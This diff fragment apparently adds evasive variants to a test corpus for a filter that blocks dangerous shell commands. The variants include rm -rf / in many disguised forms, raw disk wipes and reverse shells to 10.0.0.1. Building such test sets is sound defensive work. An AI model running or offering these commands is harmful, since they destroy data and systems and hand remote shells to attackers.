@@ -449,3 +449,45 @@ cat > /etc/systemd/system/x.service <<EOT
 	ExecStart=/bin/rm -rf /
 	EOT
 curl -o /etc/cron.d/x http://x.example/cron
+#: a second look, written before the mended rules were tried on it
+for p in etc usr var; do rm -rf "/$p"; done
+base=/; sub=home; rm -rf "$base$sub"
+rm -rf "$(echo /etc)"
+rm -rf `printf '/%s' usr`
+sudo env A=1 FOO=/ bash -c 'cd $FOO; rm -rf *'
+export ROOT_DIR=/; python3 -c 'import os,shutil; shutil.rmtree(os.environ["ROOT_DIR"])'
+TARGET=/etc; export TARGET; find . -maxdepth 0 -exec sh -c 'rm -rf "$TARGET"' \;
+run() { "$@"; }; run rm -rf /
+clean() { local d=${1:-/}; rm -rf "$d"; }; clean
+wipe() { for x in "$@"; do rm -rf "$x"; done; }; wipe /srv/x /usr
+cmds=("ls" "rm -rf /"); for c in "${cmds[@]}"; do eval "$c"; done
+cat > /tmp/clean.sh <<'EOF'
+	#!/bin/bash
+	rm -rf "$1"
+	EOF
+	chmod +x /tmp/clean.sh; /tmp/clean.sh /
+tee /tmp/x.sh <<< 'rm -rf /etc' >/dev/null && bash /tmp/x.sh
+echo "rm -rf /" | at now
+systemd-run --on-active=30 rm -rf /
+nsenter -t 1 -m -- rm -rf /etc
+docker exec web bash -c "rm -rf /*"
+kubectl exec db-0 -- sh -c 'rm -rf /var/lib/*; rm -rf /'
+ansible all -m shell -a 'rm -rf /'
+su - root -c "rm -rf /"
+flock /tmp/l rm -rf /usr
+if true; then :; else rm -rf /; fi
+[ -d /x ] || { cd / && rm -rf ./*; }
+case $1 in a) rm -rf /etc ;; esac
+while :; do rm -rf /home; sleep 1; done
+rm -rf /etc/nginx/../../usr
+rm -rf /[a-z]*
+rm -rf /?*
+cd /tmp/../etc && rm -rf .
+pushd /usr; rm -rf *; popd
+dd if=/dev/zero | tee /dev/sdb
+cp /dev/urandom /dev/vda
+D=sda; dd if=/tmp/x of=/dev/$D
+parted /dev/sda --script mklabel gpt
+mkfs -t ext4 "$(echo /dev/sdb)"
+0<&196;exec 196<>/dev/tcp/10.0.0.1/443; sh <&196 >&196 2>&196
+ncat 10.0.0.1 443 -e /bin/sh
